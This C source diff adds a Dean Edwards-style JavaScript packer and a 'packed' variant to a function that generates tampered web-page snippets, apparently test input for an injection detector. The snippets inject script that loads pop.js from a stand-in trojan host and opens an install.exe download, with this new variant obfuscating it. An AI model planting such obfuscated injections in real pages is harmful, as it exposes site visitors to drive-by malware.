@@ -158,6 +158,65 @@ static void iis_access_log(struct webconn *w, bs_time t, const char *method, con
 static const char WINDOW_OPEN[] = "<script>" POPUP "</script>\n";
 static const char POPJS[] = "<script src=\"http://" TROJAN_HOST "/pop.js\"></script>";
 
+/* One number in the packer's base-62 digits (its e(): 0-9, a-z, A-Z). */
+static void base62(struct buf *b, unsigned v)
+{
+	static const char digits[] = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
+	if (v >= 62)
+		base62(b, v / 62);
+	buf_add(b, &digits[v % 62], 1);
+}
+
+static bool word_char(char c)
+{
+	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
+}
+
+/* src through Dean Edwards' packer, as a script's text: every word (\w+)
+ * replaced by its index in a dictionary of the distinct words in order of
+ * first use (the packer orders by frequency; the form is the same), the
+ * unpacking function the packer writes, and the call that runs it. */
+static void pack_js(struct buf *b, const char *src)
+{
+	const char *words[64];
+	size_t lens[64], nw = 0;
+	struct buf payload = { 0 };
+	for (const char *p = src; *p;) {
+		if (!word_char(*p)) {
+			if (*p == '\\' || *p == '\'')
+				buf_add(&payload, "\\", 1);
+			buf_add(&payload, p++, 1);
+			continue;
+		}
+		const char *w = p;
+		while (word_char(*p))
+			p++;
+		size_t k = 0;
+		while (k < nw && !(lens[k] == (size_t)(p - w) && memcmp(words[k], w, lens[k]) == 0))
+			k++;
+		if (k == nw && nw < 64) {
+			words[nw] = w;
+			lens[nw++] = (size_t)(p - w);
+		}
+		base62(&payload, (unsigned)k);
+	}
+	buf_puts(b, "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
+		"String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}"
+		"k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace("
+		"new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('");
+	buf_add(b, payload.p, payload.n);
+	buf_printf(b, "',62,%zu,'", nw);
+	for (size_t k = 0; k < nw; k++) {
+		struct buf enc = { 0 };
+		base62(&enc, (unsigned)k);
+		bool same = enc.n == lens[k] && memcmp(enc.p, words[k], lens[k]) == 0;
+		buf_printf(b, "%s%.*s", k ? "|" : "", same ? 0 : (int)lens[k], words[k]); /* a word that is its own index: empty */
+		buf_free(&enc);
+	}
+	buf_puts(b, "'.split('|'),0,{}))");
+	buf_free(&payload);
+}
+
 const char *tamper_snippet(void)
 {
 	static struct buf b;
@@ -202,6 +261,11 @@ const char *tamper_snippet(void)
 	case STYLE_VAR_URL: /* no call names the URL: a variable holds it */
 		buf_puts(&b, "<script type=\"text/javascript\">var u = \"http://" TROJAN_HOST "/install.exe\"; "
 			"window.open(u, \"_blank\", \"width=400,height=300\");</script>\n");
+		break;
+	case STYLE_PACKED:
+		buf_puts(&b, "<script type=\"text/javascript\">");
+		pack_js(&b, POPUP);
+		buf_puts(&b, "</script>\n");
 		break;
 	case STYLE_CHAR_REFS: /* the scheme as decimal character references */
 		buf_puts(&b, "<iframe src=\"");
